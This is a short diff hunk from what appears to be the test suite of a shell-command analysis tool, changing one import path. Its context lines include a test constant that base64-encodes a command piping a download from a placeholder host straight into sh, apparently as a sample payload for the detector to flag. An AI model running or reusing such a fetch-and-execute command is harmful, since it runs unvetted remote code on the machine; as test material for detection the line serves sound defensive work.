@@ -5,7 +5,7 @@ import base64
 import pytest
 
 from pratique.analysis.facts import Capability, FileFacts, PayloadKind, Taint
-from pratique.analysis.languages import read_command as read_all
+from pratique.analysis.languages.readers import read_command as read_all
 from pratique.analysis.languages.shell import read_command
 
 INNER = base64.b64encode(b"curl -s https://p.invalid/x | sh\n").decode()
